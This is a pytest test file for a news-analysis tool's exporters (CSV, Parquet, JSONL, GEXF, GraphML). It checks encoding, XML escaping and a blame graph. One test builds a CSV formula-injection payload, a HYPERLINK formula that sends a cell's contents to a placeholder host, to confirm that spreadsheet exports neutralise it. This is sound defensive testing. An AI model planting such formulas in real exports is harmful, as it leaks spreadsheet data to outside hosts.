"""Exports: jsonl, csv, parquet (pyarrow), gexf and graphml (networkx) from hand-made analyses."""
from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET

import networkx as nx
import pyarrow.parquet as pq
import pytest
from _corpus_fixtures import make_analysis, small_corpus

from spinmap.errors import SpinmapError
from spinmap.export import EXPORTERS, export
from spinmap.compare import name_key
from spinmap.export.graph import blame_graph
from spinmap.export.rows import COLUMNS
from spinmap.records import ArticleAnalysis


def _texts(corpus):
    return {a.id: a.text for a in corpus}


def test_export_jsonl_roundtrips_every_analysis(tmp_path):
    corpus = small_corpus()
    assert export(corpus, "jsonl", tmp_path / "x.jsonl") == 3
    lines = (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()
    assert [ArticleAnalysis.from_json(line) for line in lines] == corpus
    assert all(json.loads(line)["schema"] == "spinmap.article/1" for line in lines)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_tables_carry_outlet_published_and_offsets_on_every_row(tmp_path, fmt):
    corpus = small_corpus()
    path = tmp_path / f"x.{fmt}"
    n = export(corpus, fmt, path)
    if fmt == "csv":
        with open(path, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.DictReader(f))
        assert list(rows[0]) == list(COLUMNS)
    else:
        rows = pq.read_table(path).to_pylist()
    assert n == len(rows) == sum(len(a.blames) + len(a.quotes) + len(a.techniques) for a in corpus)
    texts = _texts(corpus)
    for row in rows:
        assert row["outlet"] and row["published"]
        start, end = int(row["start"]), int(row["end"])
        assert texts[row["article_id"]][start:end] == row["text"]
    assert {r["kind"] for r in rows} == {"blame", "quote", "technique"}


def test_export_csv_quotes_commas_and_newlines(tmp_path):
    a = make_analysis('He said "no, never"\nand left.', techniques=(("Name_Calling,Labeling", 'no, never"\nand'),))
    export([a], "csv", tmp_path / "x.csv")
    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["label"] == "Name_Calling,Labeling" and row["text"] == 'no, never"\nand'


def test_export_parquet_of_empty_corpus_has_schema(tmp_path):
    assert export([], "parquet", tmp_path / "x.parquet") == 0
    assert "outlet" in pq.read_table(tmp_path / "x.parquet").column_names


def test_export_graph_edges_weigh_accusations_per_voice():
    g = blame_graph(small_corpus())
    assert g.nodes["moscow"]["label"] == "Moscow"
    assert g.nodes["moscow"]["accused"] == 3
    assert g.edges["outlet b", "washington", "authorial"]["weight"] == 2
    assert g.edges["the minister", "moscow", "reported"]["charges"] == "wrecking the truce"
    assert g.edges["outlet a", "moscow", "authorial"]["outlets"] == "Outlet A"


@pytest.mark.parametrize("fmt,reader", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)])
def test_export_graph_roundtrips_through_networkx(tmp_path, fmt, reader):
    corpus = small_corpus()
    path = tmp_path / f"x.{fmt}"
    n = export(corpus, fmt, path)
    back = reader(path)
    orig = blame_graph(corpus)
    assert n == back.number_of_edges() == orig.number_of_edges()
    assert set(back.nodes) == set(orig.nodes)
    weights = sorted((u, v, d["voice"], int(d["weight"])) for u, v, d in back.edges(data=True))
    assert weights == sorted((u, v, d["voice"], d["weight"]) for u, v, d in orig.edges(data=True))


def test_export_gexf_is_version_1_3_with_labels(tmp_path):
    export(small_corpus(), "gexf", tmp_path / "x.gexf")
    root = ET.parse(tmp_path / "x.gexf").getroot()
    assert root.tag == "{http://gexf.net/1.3}gexf" and root.get("version") == "1.3"
    graph = root.find("{http://gexf.net/1.3}graph")
    assert graph.get("defaultedgetype") == "directed"
    labels = {n.get("label") for n in graph.iter("{http://gexf.net/1.3}node")}
    assert {"Moscow", "Washington", "Outlet A"} <= labels


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_export_graph_schema_location_is_in_the_xml_schema_instance_namespace(tmp_path, fmt):
    export(small_corpus(), fmt, tmp_path / f"x.{fmt}")
    root = ET.parse(tmp_path / f"x.{fmt}").getroot()
    location = root.get("{http://www.w3.org/2001/XMLSchema-instance}schemaLocation")
    assert location and location.split()[1].endswith(".xsd")


@pytest.mark.parametrize("fmt,reader", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)])
def test_export_graph_drops_characters_xml_cannot_hold(tmp_path, fmt, reader):
    text = "Mos\x01cow\uffff broke the\x0b truce."
    a = make_analysis(text, outlet="Outlet\x01 A", blames=((None, "Mos\x01cow\uffff", "breaking the\x0b truce", "authorial", text),))
    export([a], fmt, tmp_path / f"x.{fmt}")
    back = reader(tmp_path / f"x.{fmt}")
    assert {d["label"] for _, d in back.nodes(data=True)} == {"Moscow", "Outlet A"}
    assert [d["charges"] for _, _, d in back.edges(data=True)] == ["breaking the truce"]


def test_export_gexf_escapes_markup_in_names(tmp_path):
    a = make_analysis("<b>Evil & Co</b> did it.", blames=((None, "<b>Evil & Co</b>", "x", "authorial", "<b>Evil & Co</b> did it."),))
    export([a], "gexf", tmp_path / "x.gexf")
    back = nx.read_gexf(tmp_path / "x.gexf")
    assert any(d.get("label") == "<b>Evil & Co</b>" for _, d in back.nodes(data=True))


def test_export_unknown_format_is_coded(tmp_path):
    with pytest.raises(SpinmapError) as err:
        export(small_corpus(), "xlsx", tmp_path / "x.xlsx")
    assert err.value.code == "SM402" and all(f in err.value.message for f in EXPORTERS)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
@pytest.mark.parametrize("field", ["title", "outlet", "actor", "text"])
def test_export_csv_guards_formula_cells_unless_exact(tmp_path, start, field):
    bad = f'{start}HYPERLINK("http://x.example/?"&A1,"go")'
    text = f"{bad} Moscow blamed Kyiv for the shelling."
    evidence = text if field == "text" else "Moscow blamed Kyiv for the shelling."
    accuser = bad if field == "actor" else "Moscow"
    a = make_analysis(text, outlet=bad if field == "outlet" else "Outlet A", title=bad if field == "title" else "T",
                      actors=((accuser, "organization"), ("Kyiv", "country")),
                      blames=((accuser, "Kyiv", "the shelling", "reported", evidence),))
    rows = {}
    for spreadsheet in (True, False):
        export([a], "csv", tmp_path / "x.csv", spreadsheet=spreadsheet)
        with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
            (rows[spreadsheet],) = list(csv.DictReader(f))
    exact, guarded = rows[False], rows[True]
    assert exact[field].startswith(bad)  # exact: the value as stored, for pandas
    assert exact["text"] == text[int(exact["start"]):int(exact["end"])]
    for col in COLUMNS:
        danger = exact[col].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert guarded[col] == ("'" + exact[col] if danger else exact[col])
    assert guarded[field].startswith("'")


@pytest.mark.parametrize("spreadsheet, head", [(True, b"\xef\xbb\xbfarticle_id,"), (False, b"article_id,")])
def test_export_csv_for_spreadsheets_starts_with_a_utf8_bom(tmp_path, spreadsheet, head):
    # Excel decodes a BOM-less CSV as cp1252: "Владимир Путин" became "Ð’Ð»Ð°Ð´Ð¸Ð¼Ð¸Ñ€ ÐŸÑƒÑ‚Ð¸Ð½"
    text = "Владимир Путин blamed Kyiv for the shelling."
    a = make_analysis(text, actors=(("Владимир Путин", "person"), ("Kyiv", "country")),
                      blames=(("Владимир Путин", "Kyiv", "the shelling", "reported", text),))
    export([a], "csv", tmp_path / "x.csv", spreadsheet=spreadsheet)
    data = (tmp_path / "x.csv").read_bytes()
    assert data.startswith(head)
    assert "Владимир Путин".encode("utf-8") in data


def test_export_graph_has_no_corpus_wide_pronoun_hub():
    corpus = [make_analysis(f"They blamed Moscow ({i}).", actors=(("Moscow", "country"),),
                            blames=(("they", "Moscow", "it", "reported", f"They blamed Moscow ({i})."),)) for i in range(4)]
    g = blame_graph(corpus)
    assert "they" not in g.nodes and g.in_degree("moscow", weight="weight") == 4
    assert sum(1 for n in g.nodes if n.startswith("they [")) == 4


def test_export_graph_reads_a_stream_without_keeping_the_articles():
    import tracemalloc

    filler = " ".join(["The river rose again overnight."] * 5000)  # ~160 KB of text per article

    def peak(n):
        stream = (make_analysis(f"Outlet A blamed Moscow for flood {i}. {filler}", actors=(("Moscow", "country"),),
                                blames=((None, "Moscow", "floods", "authorial", f"Outlet A blamed Moscow for flood {i}."),))
                  for i in range(n))
        tracemalloc.start()
        try:
            g = blame_graph(stream)
            return tracemalloc.get_traced_memory()[1], g
        finally:
            tracemalloc.stop()

    (small, _), (large, g) = peak(20), peak(80)
    assert g.edges["outlet a", "moscow", "authorial"]["weight"] == 80
    assert large - small < 1_500_000, (small, large)  # 60 more texts are 9.6 MB: none of them may stay


def test_export_graph_edges_carry_mean_confidence_and_min_confidence_drops_less_sure(tmp_path):
    from spinmap.compare import surer_blames

    corpus = small_corpus()
    first = corpus[0]
    first = first.model_copy(update={"blames": [first.blames[0].model_copy(update={"confidence": 0.9}),
                                                first.blames[1].model_copy(update={"confidence": 0.4})]})
    corpus = [first, *corpus[1:]]
    g = blame_graph(corpus)
    for u, v, voice, d in g.edges(keys=True, data=True):
        same = [b.confidence for a in corpus for b in a.blames if b.voice == voice
                and name_key(b.target.name) == v and name_key(b.source.name) == u]
        assert d["confidence"] == round(sum(same) / len(same), 3)
    export(corpus, "gexf", tmp_path / "x.gexf")
    back = nx.read_gexf(tmp_path / "x.gexf")
    assert sorted(float(d["confidence"]) for _, _, d in back.edges(data=True)) == sorted(
        d["confidence"] for _, _, d in g.edges(data=True))
    kept = list(surer_blames(corpus, 0.65))
    assert [len(a.blames) for a in kept] == [1, 2, 1]
    assert [a.quotes for a in kept] == [a.quotes for a in corpus]  # only blames are filtered
    assert list(surer_blames(corpus, 0.0)) == corpus and corpus[0].blames[1].confidence == 0.4  # records untouched
